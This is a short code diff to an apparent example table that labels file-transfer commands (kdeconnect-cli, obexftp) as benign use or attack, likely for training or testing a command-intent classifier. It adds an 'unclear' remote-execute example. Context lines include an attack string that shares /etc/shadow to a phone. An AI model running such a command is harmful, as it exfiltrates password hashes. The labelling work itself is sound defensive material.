@@ -165,6 +165,7 @@ export const fileTransfer1: ExampleTable = {
   'kdeconnect-cli': {
     use: 'kdeconnect-cli -n phone --share notes.txt → read notes.txt; send kdeconnect-cli',
     attack: 'kdeconnect-cli -n phone --share /etc/shadow → read /etc/shadow; send kdeconnect-cli',
+    unclear: 'kdeconnect-cli -d x --execute-command lock → what leaves this machine',
   },
   obexftp: {
     use: 'obexftp -b 00:11:22:33:44:55 -p notes.txt → read notes.txt; send obexftp',
